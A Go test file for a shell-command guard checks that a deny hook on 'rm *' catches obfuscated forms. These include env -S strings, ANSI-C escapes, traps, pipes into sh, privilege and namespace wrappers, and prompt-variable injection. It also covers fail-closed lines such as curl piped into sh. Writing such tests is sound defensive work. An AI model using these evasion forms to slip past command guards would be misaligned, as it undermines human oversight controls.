package protect

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/planc/planc/ast"
)

// TestShellHookForms: the forms that run a command without writing its
// name out as a word of the step are read as a shell or env reads them,
// and a deny "rm *" hook refuses each; their near misses are not refused.
func TestShellHookForms(t *testing.T) {
	c := checker(t, t.TempDir(), ast.Hook{Index: 0, On: ast.HookOnShell, Match: "rm *", CommitPolicy: ast.CommitDeny})
	for _, argv := range [][]string{
		// env -S, as GNU env splits its string
		{"env", "-S", "rm x"},
		{"env", "-Srm x"},
		{"env", "-S", "'rm' x"},
		{"env", "-S", `"r"m x`},
		{"env", "-S", `rm\_x`},
		{"env", "-S", `"rm" 'x'`},
		{"env", "-vS", "rm x"},
		{"env", "-iS", "rm x"},
		{"env", "--split-string=rm x"},
		{"env", "--split-string", "rm x"},
		{"env", "--split=rm x"},
		{"env", "--sp", "rm x"},
		{"env", "-S", "A=1 rm x"},
		{"env", "-S", "-i rm x"},
		{"env", "-S", "-S'rm x'"},
		{"env", "-S", " \t rm\tx # comment"},
		{"env", "-S", "rm ${HOME}/x"},
		{"env", "-S", `"rm" "${X}"`},
		{"env", "-C", "/tmp", "-S", "rm x"},
		{"env", "-S", "sh -c 'rm x'"},
		{"/usr/bin/env", "-S", "bash -c \"rm x\""},
		bash(`env -S'rm x'`),
		bash(`env -S"rm\_x"`),
		bash(`env -S 'rm \${X}'`),
		// ANSI-C quoting
		bash(`$'\x72m' x`),
		bash(`$'\162m' x`),
		bash(`$'\x72\x6d' x`),
		bash(`$'\u0072m' x`),
		bash(`$'\U00000072m' x`),
		bash(`$'r\155' x`),
		bash(`r$'m' x`),
		bash(`eval $'\x72m x'`),
		bash(`eval $'\162m\040x'`),
		bash(`$'rm\0ignored' x`),
		bash(`$'r\x6d' x`),
		// trap
		bash("trap 'rm x' 0"),
		bash("trap -- 'rm x' EXIT"),
		bash("trap 'rm x' INT TERM; kill -INT $$"),
		bash(`trap "rm x" ERR`),
		// here-strings, here-documents and pipes into a shell
		bash("bash <<< 'rm x'"),
		bash("sh <<< \"rm x\""),
		bash("bash -s <<< 'rm x'"),
		bash("bash <<EOF\nrm x\nEOF"),
		bash("sh <<-'EOF'\n\trm x\n\tEOF"),
		bash("bash <<EOF\nr\\m x\nEOF"),
		bash("echo 'rm x' | sh"),
		bash("echo rm x | bash"),
		bash("echo -n 'rm x' | bash"),
		bash(`echo -e 'r\x6d x' | bash`),
		bash(`printf 'rm x\n' | bash`),
		bash(`printf '%s %s\n' rm x | sh`),
		bash(`printf '\x72m x' | sh`),
		bash("echo 'rm x' | cat | sh"),
		bash("{ echo true; echo 'rm x'; } | sh"),
		bash("cat <<< 'rm x' | bash"),
		bash("echo 'rm x' | sudo sh"),
		bash("echo 'rm x' | bash /dev/stdin"),
		bash("bash /dev/stdin <<< 'rm x'"),
		bash("echo 'rm x' | (sh)"),
		// process substitutions sourced or run
		bash(". <(echo rm x)"),
		bash("source <(echo rm x)"),
		bash("source <(printf 'rm x')"),
		bash("bash <(echo rm x)"),
		bash("sh <(echo 'rm x')"),
		// a shell's standard input from a process substitution
		bash("bash < <(echo rm x)"),
		bash(`sh < <(printf "rm x")`),
		bash("bash -s < <(echo rm x)"),
		bash("sh 0< <(echo rm x)"),
		bash("exec < <(echo rm x); bash"),
		bash("exec 0< <(echo rm x)\nsh"),
		bash("{ exec < <(echo rm x); }; bash"),
		bash("{ bash; } < <(echo rm x)"),
		// wrappers
		{"setpriv", "--no-new-privs", "rm", "x"},
		{"setpriv", "--reuid", "1000", "--regid", "1000", "--init-groups", "rm", "x"},
		{"setpriv", "--inh-caps=-all", "rm", "x"},
		{"prlimit", "--nofile=10", "rm", "x"},
		{"prlimit", "-n10", "-o", "RESOURCE", "rm", "x"},
		{"setarch", "x86_64", "rm", "x"},
		{"setarch", "x86_64", "-R", "rm", "x"},
		{"setarch", "i386", "--addr-no-randomize", "rm", "x"},
		{"linux64", "rm", "x"},
		{"linux32", "-R", "rm", "x"},
		{"i386", "rm", "x"},
		{"x86_64", "-v", "rm", "x"},
		{"unshare", "-r", "rm", "x"},
		{"unshare", "--map-root-user", "--mount", "rm", "x"},
		{"unshare", "-w", "/tmp", "rm", "x"},
		{"unshare", "--setuid", "0", "--", "rm", "x"},
		{"strace", "-f", "rm", "x"},
		{"strace", "-e", "trace=file", "-o", "/dev/null", "rm", "x"},
		{"strace", "--output=/dev/null", "-s", "99", "rm", "x"},
		{"script", "-c", "rm x"},
		{"script", "-qc", "rm x", "/dev/null"},
		{"script", "--command=rm x", "/dev/null"},
		{"script", "-q", "-c", "rm x", "log"},
		{"script", "log", "-c", "rm x"},
		bash("echo 'rm x' | sudo -s"),
		bash("sudo -i <<< 'rm x'"),
		{"su", "-c", "rm x"},
		{"su", "root", "-c", "rm x"},
		{"su", "-", "root", "-c", "rm x"},
		{"su", "--command=rm x", "root"},
		{"su", "root", "--", "-c", "rm x"},
		{"su", "-s", "/bin/sh", "nobody", "-c", "rm x"},
		{"runuser", "-u", "nobody", "rm", "x"},
		{"runuser", "-u", "nobody", "--", "rm", "x"},
		{"runuser", "-l", "nobody", "-c", "rm x"},
		{"runuser", "nobody", "--session-command", "rm x"},
		bash("echo 'rm x' | su nobody"),
		bash("echo 'rm x' | unshare -r"),
		bash("echo 'rm x' | setarch x86_64"),
		bash("script -q /dev/null <<< 'rm x'"),
		{"chroot", "/", "rm", "x"},
		{"chroot", "--userspec=1000:1000", "/srv", "rm", "x"},
		bash("echo 'rm x' | chroot /"),
		{"nsenter", "rm", "x"},
		{"nsenter", "-t", "1", "-m", "-u", "rm", "x"},
		{"nsenter", "--target", "1", "--mount", "--setuid", "0", "rm", "x"},
		{"nsenter", "-m/proc/1/ns/mnt", "-r/", "rm", "x"},
		{"fakeroot", "rm", "x"},
		{"fakeroot", "-i", "state", "--", "rm", "x"},
		bash("echo 'rm x' | fakeroot"),
		{"valgrind", "--tool=none", "-q", "rm", "x"},
		{"catchsegv", "rm", "x"},
		{"numactl", "-C", "0", "rm", "x"},
		{"numactl", "--interleave", "all", "rm", "x"},
		{"ltrace", "-o", "/dev/null", "rm", "x"},
		{"systemd-run", "--user", "--unit", "u", "rm", "x"},
		{"systemd-run", "-p", "Nice=5", "--wait", "rm", "x"},
		{"firejail", "--noprofile", "rm", "x"},
		{"watch", "rm x"},
		{"watch", "-n", "1", "rm", "x"},
		{"watch", "-g", "rm x; true"},
		{"watch", "-x", "rm", "x"},
		{"capsh", "--", "-c", "rm x"},
		{"capsh", "--drop=cap_net_raw", "--shell=/bin/sh", "--", "-c", "rm x"},
		{"gdb", "-batch", "-ex", "run", "--args", "rm", "x"},
		bash("mapfile -C 'rm x' -c 1 < list"),
		bash("readarray -t -C rm -c 1 arr < list"),
		// variables a shell runs as code
		{"env", "BASH_FUNC_ls%%=() { rm x; }", "bash", "-c", "ls"},
		{"env", "-i", "BASH_FUNC_echo()=() { rm x; }", "bash", "-c", "echo hi"},
		{"sudo", "BASH_FUNC_ls%%=() { rm x; }", "bash", "-c", "ls"},
		bash("PROMPT_COMMAND='rm x' bash -i"),
		bash("export PROMPT_COMMAND='rm x'; bash -i"),
		bash("PROMPT_COMMAND=('true' 'rm x')"),
		bash("declare -x PS1='$(rm x)'; bash -i"),
		bash(`PS4='$(rm x)' bash -xc true`),
		bash("PS0='`rm x`' bash -i"),
		bash(`export 'PS4=$(rm x)'; bash -xc true`),
		{"env", "PS4=$(rm x)", "bash", "-xc", "true"},
		{"env", "PROMPT_COMMAND=rm x", "bash", "-i"},
	} {
		if r := c.Shell(argv, ""); r == nil || r.Kind != CallDenied || !strings.Contains(r.Message, `the command "rm `) {
			t.Errorf("%q: not refused as rm (%v); its commands: %q", argv, r, ShellCommands(argv))
		}
	}
	for _, argv := range [][]string{
		{"env", "-S", "echo rm x"},
		{"env", "-S", "echo '#' rm x"}, // # within a word is no comment
		{"env", "-S", "echo # rm x"},   // a comment
		{"env", "-S", `echo \c rm x`},  // \c ends the string
		{"env", "-S", "echo\t'rm x'"},  // one argument
		{"env", "--", "-S", "rm x"},    // the command -S
		bash(`$'\x72n' x`),
		bash(`echo $'rm x'`),
		bash("trap -p"),
		bash("trap 'echo rm x' 0"),
		bash("bash <<< 'echo rm x'"),
		bash("echo 'echo rm x' | sh"),
		bash("echo rm x | cat"),
		bash("echo 'rm x' | wc -l"),
		bash("echo 'rm x' > out.txt"),
		bash(". <(echo echo rm x)"),
		bash("bash < <(echo echo rm x)"),
		bash("cat < <(echo rm x)"),
		bash("(exec < <(echo rm x)); bash"),
		bash("exec 3< <(echo rm x); bash"),
		bash("bash < <(echo rm x) -c 'echo hi'"),
		bash("bash -c 'echo hi' <<< 'rm x'"),
		bash("bash script.sh <<< 'rm x'"),
		{"setpriv", "--dump"},
		{"prlimit", "--pid", "1", "--nofile=10"},
		{"setarch", "--list"},
		{"strace", "-p", "1"},
		{"su", "-c", "echo rm x"},
		{"runuser", "-u", "nobody", "echo", "rm", "x"},
		{"unshare", "-r", "echo", "rm", "x"},
		{"script", "-c", "echo rm x"},
		{"chroot", "/", "echo", "rm", "x"},
		{"chroot", "--help"},
		{"nsenter", "-t", "1", "-m", "echo", "rm", "x"},
		{"fakeroot", "echo", "rm", "x"},
		{"valgrind", "--tool=none", "echo", "rm", "x"},
		{"numactl", "--hardware"},
		{"watch", "echo rm x"},
		{"watch", "-x", "echo", "rm", "x"},
		{"capsh", "--print"},
		{"capsh", "--", "-c", "echo rm x"},
		{"gdb", "-batch", "prog"},
		bash("mapfile -t arr < list"),
		bash("mapfile -C 'echo rm x' -c 1 < list"),
		bash("mapfile -C 'echo hi;' -c 1 < list"), // bash runs "echo hi; 0 LINE": 0 is a command
		bash("alias"),
		bash("alias -p"),
		bash("hash -r"),
		bash("enable -n echo"),
		{"env", "BASH_FUNC_ls%%=() { echo rm x; }", "bash", "-c", "ls"},
		{"env", "BASH_FUNC_ls%%=rm x", "bash", "-c", "ls"}, // not a function: bash ignores it
		{"env", "A=rm", "echo", "x"},
		{"env", "PS1=> ", "bash"},
		bash("PROMPT_COMMAND='history -a' bash -i"),
		bash("export PS4='+ ${LINENO}: '; bash -xc true"),
		bash("PS1='$(date)> ' bash -i"),
		bash("PROMPT_COMMAND=rm; echo x"), // the value alone matches no "rm *"
	} {
		if r := c.Shell(argv, ""); r != nil {
			t.Errorf("%q: refused: %v", argv, r)
		}
	}
}

// TestShellHookFailClosed: where a deny on-shell hook exists and a command
// the step runs cannot be known before it runs (a name that is an
// expansion, an eval, trap or shell script that is one, a shell reading
// a script no one can know), the step is refused, with why and a fix;
// without such a hook it is not.
func TestShellHookFailClosed(t *testing.T) {
	c := checker(t, t.TempDir(), ast.Hook{Index: 0, On: ast.HookOnShell, Match: "rm *", CommitPolicy: ast.CommitDeny})
	plain := checker(t, t.TempDir(), ast.Hook{Index: 0, On: ast.HookOnShell, Match: "rm *", CommitPolicy: ast.CommitAllow})
	for _, tt := range []struct {
		argv []string
		why  string
	}{
		{bash("r=rm; $r x"), `runs "$r x", whose command name $r is not known before it runs`},
		{bash(`"$r" x`), `whose command name "$r" is not known`},
		{bash("$(echo rm) x"), `whose command name $(echo rm) is not known`},
		{bash("`echo rm` x"), "whose command name $(echo rm) is not known"},
		{bash("${CMD:-rm} x"), "whose command name ${CMD:-rm} is not known"},
		{bash("/usr/bin/r? x"), "whose command name /usr/bin/r? is not known"},
		{bash(`eval "$c"`), `runs "eval \"$c\"", an eval of a string not known before it runs`},
		{bash(`eval "r$m x"`), "an eval of a string not known"},
		{bash(`bash -c "$s"`), `a shell running a script not known before it runs`},
		{bash(`trap "$c" EXIT`), "a trap whose command is not known"},
		{bash("curl -s https://example.com/x.sh | sh"), `"sh", a shell reading its script from the output of curl -s https://example.com/x.sh, whose text is not known before it runs`},
		{bash("bash <<< \"$s\""), "a shell reading its script from the here-string <<< \"$s\""},
		{bash("bash <<EOF\n$s\nEOF"), "a shell reading its script from a here-document"},
		{bash(". <(curl -s x)"), "a shell reading its script from <(curl -s x), whose text is not known"},
		{bash("bash < <(curl -s x)"), `"bash", a shell reading its script from <(curl -s x), whose text is not known`},
		{bash("exec < <(curl -s x); sh"), `"sh", a shell reading its script from <(curl -s x), whose text is not known`},
		{bash(`echo 'r\0155 x' | sh`), `a shell reading its script from the output of echo 'r\0155 x', whose text is not known`},
		{bash("sudo $x"), "whose command name $x is not known"},
		{bash("find . -exec {} ;"), "whose command name … is not known"},
		{[]string{"env", "-S", "${X} x"}, "whose command name ${X} is not known"},
		{[]string{"env", "-S", "$X x"}, `env cannot split the -S string "$X x": only ${VARNAME} expansion is supported`},
		{[]string{"env", "-S", "'rm x"}, "no terminating quote"},
		{[]string{"env", "-S", `rm\q x`}, `invalid sequence '\q'`},
		{bash(`PS4="$p" bash -xc true`), `runs PS4="$p", a variable a shell runs as code, set to a value not known before it runs`},
		{bash(`PROMPT_COMMAND+='; rm x'`), "PROMPT_COMMAND=…, a variable a shell runs as code"},
		{bash(`env "PROMPT_COMMAND=$c" bash -i`), "PROMPT_COMMAND=…, a variable a shell runs as code"},
		{bash(`export "BASH_FUNC_ls%%=$f"`), "BASH_FUNC_ls%%=…, a variable a shell runs as code"},
		{bash("watch $c"), `"watch $c", a watch whose command is not known before it runs`},
		{bash(`mapfile -C "$cb" < list`), `a mapfile callback not known before it runs`},
		{bash("shopt -s expand_aliases\nalias r=rm\nr x"), `runs "alias r=rm", an alias, whose words run under another name`},
		{bash("hash -p /bin/rm del; del x"), `runs "hash -p /bin/rm del", which makes a name run another file`},
		{bash("enable -f ./evil.so rm"), `runs "enable -f ./evil.so rm", which loads a builtin from a shared object`},
	} {
		r := c.Shell(tt.argv, "")
		if r == nil || r.Kind != CallDenied || !strings.Contains(r.Message, tt.why) ||
			!strings.HasSuffix(r.Message, "write the command and its scripts out as literal words in the step") {
			t.Errorf("%q: %v; want a refusal saying %s", tt.argv, r, tt.why)
		}
		if r := plain.Shell(tt.argv, ""); r != nil {
			t.Errorf("%q without a deny hook: %v", tt.argv, r)
		}
	}
}

// TestEnvSplit: env -S's string split as GNU env splits it.
func TestEnvSplit(t *testing.T) {
	for _, tt := range []struct {
		s    string
		want []string // "!" then the error's start for an error
	}{
		{"a b\tc\nd", []string{"a", "b", "c", "d"}},
		{"  a  ", []string{"a"}},
		{"'a b' c", []string{"a b", "c"}},
		{`"a b" c`, []string{"a b", "c"}},
		{`a\_b`, []string{"a", "b"}},
		{`"a\_b"`, []string{"a b"}},
		{`'a\_b'`, []string{`a\_b`}},
		{`'a\\b\'c'`, []string{`a\b'c`}},
		{`"a\"b" \$x \# \\`, []string{`a"b`, "$x", "#", `\`}},
		{`a\tb`, []string{"a\tb"}},
		{"a '' b", []string{"a", "", "b"}},
		{"'' ''", []string{"", ""}},
		{"", nil},
		{"'#x' y", []string{"#x", "y"}},
		{"'a # b", []string{"!no terminating quote"}},
		{"a '#", []string{"!no terminating quote"}},
		{"a #'", []string{"a"}},
		{"a #b c", []string{"a"}},
		{"a#b c", []string{"a#b", "c"}},
		{`a \c b`, []string{"a"}},
		{`a\cb`, []string{"a"}},
		{`'${X}'`, []string{"${X}"}},
		{"${X}", []string{"${X}…"}},
		{"a${X}b", []string{"a${X}b…"}},
		{"'a", []string{"!no terminating quote"}},
		{`"\c"`, []string{`!'\c' must not`}},
		{`a\`, []string{"!invalid backslash"}},
		{`\q`, []string{`!invalid sequence '\q'`}},
		{"$X", []string{"!only ${VARNAME}"}},
		{"${1X}", []string{"!only ${VARNAME}"}},
		{"${X", []string{"!only ${VARNAME}"}},
	} {
		words, err := envSplit(tt.s)
		var got []string
		if err != nil {
			got = []string{"!" + err.Error()}
			if len(tt.want) == 1 && strings.HasPrefix(got[0], tt.want[0]) {
				continue
			}
		}
		for _, w := range words {
			if w.kind == wordExact {
				got = append(got, w.val)
			} else {
				got = append(got, w.text+"…")
			}
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("envSplit(%q): (-want +got)\n%s", tt.s, diff)
		}
	}
}

// TestANSIC: $'…' decoded as bash decodes it.
func TestANSIC(t *testing.T) {
	for _, tt := range []struct {
		in, want string
		echo     bool
	}{
		{`\x72m`, "rm", false},
		{`\162m`, "rm", false},
		{`\0162`, "\x0e2", false}, // three digits at most: \016, then 2
		{`\1621`, "r1", false},
		{`\x7`, "\x07", false},
		{`\x7zz`, "\x07zz", false},
		{`\x`, `\x`, false},
		{`\xg`, `\xg`, false},
		{`\u72`, "r", false},
		{`\U0000006d`, "m", false},
		{`\u`, `\u`, false},
		{`\a\b\e\E\f\n\r\t\v`, "\a\b\x1b\x1b\f\n\r\t\v", false},
		{`\\ \' \" \?`, `\ ' " ?`, false},
		{`\q`, `\q`, false},
		{`\ca\cZ\c?`, "\x01\x1a\x7f", false},
		{`\c`, `\c`, false},
		{`a\0b`, "a", false},
		{`a\x00b`, "a", false},
		{`\777`, "\xff", false},
		{`\400`, "", false},  // 0x100 & 0xff is NUL: the string ends
		{`\0162`, "r", true}, // echo -e: \0NNN
		{`\162`, `\162`, true},
		{`\'\"\?`, `\'\"\?`, true},
		{`a\cb`, "a", true},
	} {
		got, _, known := ansiC(tt.in, tt.echo)
		if got != tt.want || !known {
			t.Errorf("ansiC(%q, %v) = %q, %v; want %q", tt.in, tt.echo, got, known, tt.want)
		}
	}
	if _, _, known := ansiC(`\u00e9`, false); known {
		t.Error(`\u00e9 depends on the locale`)
	}
}

// TestEnvSplitGNU holds envSplit to the env on this machine, when it is
// GNU env: the words its -v prints for each -S string, or its refusal.
func TestEnvSplitGNU(t *testing.T) {
	out, err := exec.Command("env", "--version").Output()
	if err != nil || !strings.Contains(string(out), "GNU coreutils") {
		t.Skip("no GNU env here")
	}
	compared := 0
	for _, s := range []string{
		"a b", "a '' b", "'' ''", "''", `""`, "'#x' y", "a #b c", "a#b c", "#a", " #a", `a\#b`, `\#a`,
		`a\_b`, `"a\_b" c`, `'a\_b'`, `'a\\b'`, `a\\b`, `"a\"b"`, `"a'b"`, `a\cb c`, `"a" \c"`,
		`a\$b`, `'$b'`, "a\tb", `"a\nb"`, "a  \t  b", `a"b c"d`, `'a'"b"c`,
		"'a", `"a`, "'a # b", "a #'", `"\c"`, `a\`, `\q`, `\ a`, "$X", "${1X}", "${X",
	} {
		cmd := exec.Command("env", "-i", "-v", "-S"+s, "--", "true")
		cmd.Env = []string{"LC_ALL=C"}
		stderr, _ := cmd.CombinedOutput()
		var want []string
		failed := false
		for _, line := range strings.Split(string(stderr), "\n") {
			switch {
			case strings.HasPrefix(line, " into:    "), strings.HasPrefix(line, "     &    "):
				// env -v quotes each word in C's style
				q := strings.TrimSuffix(strings.TrimPrefix(line[10:], "'"), "'")
				want = append(want, strings.NewReplacer(`\\`, `\`, `\'`, "'", `\t`, "\t", `\n`, "\n").Replace(q))
			case strings.Contains(line, "-S"), strings.Contains(line, "only ${VARNAME}"):
				failed = !strings.HasPrefix(line, "split -S:")
			}
			if strings.HasPrefix(line, "executing:") {
				break
			}
		}
		if len(want) > 0 {
			compared++
		}
		words, err := envSplit(s)
		if (err != nil) != failed {
			t.Errorf("envSplit(%q): %v; env says\n%s", s, err, stderr)
			continue
		}
		if failed {
			continue
		}
		var got []string
		for _, w := range words {
			got = append(got, w.val)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("envSplit(%q): (-env +envSplit)\n%s\nenv:\n%s", s, diff, stderr)
		}
	}
	if compared < 20 {
		t.Errorf("env -v printed the words of %d strings only", compared)
	}
}

// TestANSICBash holds ansiC to the bash on this machine: what printf %s
// prints of each $'…' word, and of echo -e's arguments.
func TestANSICBash(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash here")
	}
	for _, s := range []string{
		`\x72m`, `\162m`, `\0162`, `\1621`, `\x7`, `\x7zz`, `\x`, `\xg`, `\u72`, `\U0000006d`, `\u`, `\U`,
		`\a\b\e\E\f\n\r\t\v`, `\\ \' \" \?`, `\q`, `\ca\cZ\c?\c[`, `\c\\x`, `\c`, `a\0b`, `a\x00b`, `\777`,
		`\400`, `\8`, `\x1g`, `\u004d\u4`, `\cA\c@b`, `x\c`, `\d\%`,
	} {
		for _, echo := range []bool{false, true} {
			script := "printf %s $'" + s + "'"
			if echo {
				script = "echo -ne '" + strings.ReplaceAll(s, "'", `'\''`) + "'"
			}
			cmd := exec.Command("bash", "--norc", "-c", script)
			cmd.Env = []string{"LC_ALL=C"}
			out, err := cmd.Output()
			if err != nil {
				t.Fatalf("%s: %v", script, err)
			}
			got, _, known := ansiC(s, echo)
			if !known {
				t.Errorf("%s: not known", script)
				continue
			}
			want := string(out)
			if got != want {
				t.Errorf("%s: ansiC gives %q, bash %q", script, got, want)
			}
		}
	}
}

// TestPrintfBash holds the output of printf read from a pipe to bash's
// printf.
func TestPrintfBash(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash here")
	}
	for _, args := range [][]string{
		{`rm x\n`}, {`%s %s\n`, "rm", "x"}, {`\x72m x`}, {`\162m\040x`}, {`\0155`}, {`%s\n`, "a", "b", "c"},
		{`%d-%s;`, "1", "a", "2"}, {`%5s|%-3s|`, "ab", "c"}, {`%%%s`, "x"}, {`%b`, "rm x"}, {`\u0072`},
		{`a\tb\\c`}, {`%c%c`, "rm", "x"}, {"%x %o", "255", "8"},
	} {
		cmd := exec.Command("bash", append([]string{"--norc", "-c", `printf "$@"`, "printf"}, args...)...)
		cmd.Env = []string{"LC_ALL=C"}
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("printf %q: %v", args, err)
		}
		if got, ok := printf(args); !ok || got != string(out) {
			t.Errorf("printf %q: %q %v; bash %q", args, got, ok, out)
		}
	}
	if _, ok := printf([]string{"%b", `r\0155`}); ok {
		t.Errorf("a %%b argument with a backslash: known")
	}
}
